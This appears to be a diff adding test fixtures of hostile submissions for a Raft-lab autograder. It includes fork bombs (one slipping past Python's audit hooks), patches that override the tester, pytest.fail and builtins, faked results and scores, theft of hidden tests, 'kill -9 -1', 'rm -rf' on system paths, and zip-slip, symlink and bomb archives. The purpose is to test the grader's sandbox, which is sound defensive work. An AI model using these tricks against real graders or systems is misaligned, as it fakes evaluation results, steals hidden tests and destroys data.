@@ -1,0 +1,288 @@
+"""Submissions that nobody should hand in, for the grader's tests and for a class to try it on.
+
+Most are a peer that does nothing (`LAZY`), so that every point it gets is one it did not earn, with an attack in front.
+Those that go through `_posixsubprocess` do so because Python's own audit does not see it: there the sandbox must hold.
+"""
+
+from __future__ import annotations
+
+import io
+import tarfile
+import zipfile
+from dataclasses import dataclass
+from pathlib import Path
+
+LAZY = """
+class Raft:
+    def __init__(self, peers, me, persister, apply_ch):
+        pass
+
+    def start(self, command):
+        return -1, 0, False
+
+    def get_state(self):
+        return 0, False
+
+    def snapshot(self, index, snapshot):
+        pass
+
+    def kill(self):
+        pass
+"""
+
+# Starts a program without a word to Python's audit hooks.
+SPAWN = """
+import os, _posixsubprocess
+def spawn(*command):
+    error_read, error_write = os.pipe()
+    return _posixsubprocess.fork_exec(
+        [os.fsencode(word) for word in command], [os.fsencode(command[0])], True, (error_write,), None, None,
+        -1, -1, -1, -1, -1, -1, error_read, error_write, False, False, -1, None, None, None, -1, None, False
+    )
+"""
+
+
+# Runs off the end of its stack.
+SEGFAULT = "exec((lambda: 0).__code__.replace(co_code=b'\\x64\\xff' * 8, co_stacksize=0))\n"
+FAKE = '{"run": {"test": "test_initial_election_2a", "seed": 1, "kind": "passed"}}'
+DAEMON_S = "86399"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    source: str
+    says: str  # in the report of some test, or as the problem
+    earns: bool = False  # whether its Raft is right and gets its points in spite of all
+
+
+def in_place_of(reference: str, old: str, new: str) -> str:
+    assert reference.count(old) == 1, old
+    return reference.replace(old, new)
+
+
+def peers(reference: str) -> list[Hostile]:
+    """Those that are one raft.py, made with the reference's text where they need a Raft that is right."""
+    return [
+        Hostile("endless_loop", LAZY.replace("return 0, False", "while True: pass"), "took too long and was ended"),
+        Hostile("endless_import", "while True: pass", "took too long and was ended"),
+        Hostile(
+            "endless_loop_that_will_not_be_told",
+            "import signal\nfor number in (signal.SIGXCPU, signal.SIGURG):\n    signal.signal(number, signal.SIG_IGN)\n"
+            + LAZY.replace("return 0, False", "while True: pass"),
+            "took too long and was ended",
+        ),
+        Hostile("fork_bomb", "import os\nwhile True: os.fork()\n" + LAZY, "start a process (os.fork)"),
+        Hostile(
+            "fork_bomb_unseen",
+            SPAWN
+            + "for _ in range(500):\n    spawn('/bin/sh', '-c', 'sleep 1000 & sleep 1000 & sleep 1000 & wait')\n"
+            + LAZY,
+            "raft/raft.py",
+        ),
+        Hostile(
+            "memory_hog", LAZY.replace("return 0, False", "x = [bytes(1 << 24) for _ in range(1 << 20)]"), "MemoryError"
+        ),
+        Hostile(
+            "much_output",
+            LAZY.replace("return 0, False", "while True: print('x' * (1 << 20))"),
+            "took too long and was ended",
+        ),
+        Hostile("exit_zero", "import os\nos._exit(0)\n" + LAZY, "exit status 0"),
+        Hostile("exit_zero_later", "import os\n" + LAZY.replace("return 0, False", "os._exit(0)"), "exit status 0"),
+        Hostile("sys_exit", "import sys\nsys.exit(0)\n" + LAZY, "ends the program"),
+        Hostile("sys_exit_later", "import sys\n" + LAZY.replace("return 0, False", "sys.exit(0)"), "sys.exit() in"),
+        Hostile("raises_in_import", "raise ValueError('no')\n", "ValueError while importing it: no"),
+        Hostile(
+            "raises_interrupt", LAZY.replace("return 0, False", "raise KeyboardInterrupt"), "before the test was over"
+        ),
+        Hostile("skips", "import pytest\n" + LAZY.replace("return 0, False", "pytest.skip('not today')"), "not today"),
+        Hostile("syntax_error", "class Raft(:\n", "SyntaxError"),
+        Hostile("empty", "", "there is no class Raft"),
+        Hostile("segfault", SEGFAULT + LAZY, "SIGSEGV"),
+        Hostile(
+            "patches_config",
+            "import labtest.config\nlabtest.config.Config.one = lambda self, *a, **k: 1\n"
+            "labtest.config.Config.check_one_leader = lambda self: 0\n" + LAZY,
+            "It changed the tester (labtest.config.Config.",
+        ),
+        Hostile(
+            "patches_code",
+            "import labtest.running\ndef passes(*a, **k): return None\n"
+            "labtest.config.Config.check_one_leader.__code__ = passes.__code__\n" + LAZY,
+            "Config.check_one_leader was replaced",
+        ),
+        Hostile(
+            "patches_tests",
+            "import sys\nfor name, module in list(sys.modules.items()):\n    if name.startswith('labtests_'):\n"
+            "        for key in list(vars(module)):\n            if key.startswith('test_'):\n"
+            "                getattr(module, key).__code__ = (lambda make_config: None).__code__\n" + LAZY,
+            "was replaced",
+        ),
+        Hostile("patches_pytest", "import pytest\npytest.fail = print\n" + LAZY, "pytest.fail was replaced"),
+        Hostile(
+            "patches_random",
+            "import random\nrandom.Random.random = lambda self: 0.5\n" + LAZY,
+            "random.Random.random was added",
+        ),
+        Hostile(
+            "patches_builtins",
+            "import builtins\nbuiltins.isinstance = lambda *a: True\n" + LAZY,
+            "isinstance was replaced",
+        ),
+        Hostile(
+            "patches_the_seed",
+            "import labsim\ninit = labsim.Simulation.__init__\n"
+            "labsim.Simulation.__init__ = lambda self, seed, **k: init(self, 1, **k)\n" + LAZY,
+            "Simulation.__init__ was replaced",
+        ),
+        Hostile("seeds_random", "import random\nrandom.seed(1)\n" + LAZY, "Expected one leader"),
+        Hostile(
+            "only_in_the_grader",
+            "import sys\nif 'labtools.grade_worker' in sys.modules or '__main__' in sys.modules:\n"
+            "    import labtest.running\n    labtest.running.run_test = print\n" + LAZY,
+            "labtest.running.run_test was replaced",
+        ),
+        Hostile("prints_a_result", f"print('{FAKE}', flush=True)\n" + LAZY, "Expected one leader"),
+        Hostile(
+            "answers_for_itself",
+            f"import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'{FAKE}\\n')\n    except OSError: pass\n"
+            "os._exit(0)\n",
+            "exit status 0",
+        ),
+        Hostile(
+            "writes_a_result",
+            "import pathlib\nfor folder in ('.', '..', '/autograder/results', '/tmp'):\n"
+            "    try: pathlib.Path(folder, 'results.json').write_text('{\"score\": 100}')\n    except OSError: pass\n"
+            + LAZY,
+            "Expected one leader",
+        ),
+        Hostile("closes_everything", "import os\nos.closerange(3, 64)\n" + LAZY, "before the test was over"),
+        Hostile("kills_its_parent", "import os\nos.kill(os.getppid(), 9)\n" + LAZY, "send a signal (os.kill)"),
+        Hostile(
+            "kills_everybody",
+            SPAWN + "spawn('/bin/sh', '-c', 'kill -9 -1; kill -9 1 2 3 4 5 6 7 8 9 10')\nwhile True: pass\n" + LAZY,
+            "",
+        ),
+        Hostile("calls_c", "import ctypes\nctypes.CDLL(None).system(b'id')\n" + LAZY, "call C code"),
+        Hostile(
+            "looks_through_objects", "import gc\nfound = gc.get_objects()\n" + LAZY, "look through the tester's objects"
+        ),
+        Hostile(
+            "uses_the_network",
+            "import socket\nsocket.create_connection(('192.0.2.1', 80), 1)\n" + LAZY,
+            "use the network",
+        ),
+        Hostile(
+            "sleeps_for_real",
+            "import time\n" + LAZY.replace("return 0, False", "time.sleep(1000)"),
+            "time.sleep() in raft/raft.py",
+        ),
+        Hostile(
+            "sleeps_unseen",
+            "import os\n" + LAZY.replace("return 0, False", "os.read(os.pipe()[0], 1)"),
+            "took too long and was ended",
+        ),
+        Hostile("leaves_daemons", SPAWN + f"spawn('/bin/sleep', '{DAEMON_S}')\n" + reference, "", earns=True),
+        Hostile("prints_much", "print('x' * (1 << 24))\n" + reference, "", earns=True),
+    ]
+
+
+def thieves(marker_file: Path, reference: str) -> list[Hostile]:
+    """Those that want the hidden tests. All print, keep and raise what they find, and then are a right Raft."""
+    find = f"""
+import sys, pathlib
+found = ""
+for name, module in list(sys.modules.items()):
+    if name.startswith("labtests_"):
+        for key, value in vars(module).items():
+            if key.startswith("test_"):
+                found += key + repr(value.__code__.co_consts)
+for folder in ({str(marker_file.parent)!r}, "hidden", "../hidden", "/sandbox", "/autograder/source/hidden"):
+    try:
+        for path in pathlib.Path(folder).rglob("*"):
+            found += path.read_text()
+    except OSError:
+        pass
+print(found)
+pathlib.Path("loot.txt").write_text(found)
+"""
+    raises = "if 'secret' in found: raise ValueError(found)\n"
+    return [
+        Hostile("thief", find + reference, "", earns=True),
+        Hostile("thief_that_raises", find + raises + reference, ""),
+        Hostile(
+            "thief_that_raises_later",
+            find + in_place_of(reference, "        self.me = me\n", f"        self.me = me\n        {raises}"),
+            "",
+        ),
+    ]
+
+
+def vandal(victim: Path, reference: str) -> Hostile:
+    """Deletes what it can reach, in three ways."""
+    source = (
+        SPAWN
+        + f"""
+import os, shutil
+for attack in (
+    lambda: shutil.rmtree({str(victim)!r}),
+    lambda: os.remove({str(victim / "keep.txt")!r}),
+    lambda: spawn("/bin/rm", "-rf", {str(victim)!r}, "/lab", "/usr/lib/python3"),
+):
+    try: attack()
+    except OSError: pass
+"""
+    )
+    return Hostile("vandal", source + reference, "", earns=True)
+
+
+def write_archives(folder: Path, reference: str) -> dict[str, str]:
+    """Archives that are not what they seem; gives what is said of each, "" where a raft.py is found and right."""
+    says = {}
+
+    def add_zip(name: str, members: dict[str, bytes], said: str) -> None:
+        with zipfile.ZipFile(folder / f"{name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+            for member, content in members.items():
+                archive.writestr(member, content)
+        says[name] = said
+
+    def add_tar(name: str, members: list[tarfile.TarInfo], said: str, content: bytes = b"") -> None:
+        with tarfile.open(folder / f"{name}.tar.gz", "w:gz", compresslevel=1) as archive:
+            for member in members:
+                member.size = len(content) if member.isreg() else 0
+                archive.addfile(member, io.BytesIO(content))
+        says[name] = said
+
+    right = reference.encode()
+    add_zip("dot_dot", {"../../raft.py": right, "../raft/raft.py": right}, "There is no raft.py in it")
+    add_zip("absolute", {"/tmp/raft.py": right}, "There is no raft.py in it")
+    add_zip("nested_and_right", {"lab/raft/raft.py": right, "../evil.py": b"x"}, "")
+    add_zip("two_rafts", {"a/raft.py": right, "b/raft.py": right}, "There are 2 files raft.py")
+    add_zip("zip_bomb", {"raft.py": b"#" * (32 << 20)}, "larger than 1 MB")
+    link = tarfile.TarInfo("raft.py")
+    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
+    add_tar("link", [link], "There is no raft.py in it")
+    hard = tarfile.TarInfo("raft.py")
+    hard.type, hard.linkname = tarfile.LNKTYPE, "/etc/passwd"
+    add_tar("hard_link", [hard], "There is no raft.py in it")
+    device = tarfile.TarInfo("raft.py")
+    device.type = tarfile.CHRTYPE
+    add_tar("device", [device], "There is no raft.py in it")
+    add_tar(
+        "tar_bomb",
+        [tarfile.TarInfo("pad.bin"), tarfile.TarInfo("raft.py")],
+        "unpacks to more than",
+        b"\0" * (300 << 20),
+    )
+    (folder / "damaged.zip").write_bytes(b"PK\x03\x04 and then nothing")
+    says["damaged"] = "damaged or of an unknown kind"
+    (folder / "no_archive.tar").write_bytes(b"hello")
+    says["no_archive"] = "damaged or of an unknown kind"
+    (folder / "nothing").mkdir()
+    says["nothing"] = "There is no raft.py in it"
+    (folder / "linked").symlink_to("/etc")
+    says["linked"] = "links are not followed"
+    (folder / "wrong_encoding.py").write_bytes("NAME = 'caf\xe9'\n".encode("latin-1") + right)
+    says["wrong_encoding"] = "SyntaxError"
+    return says
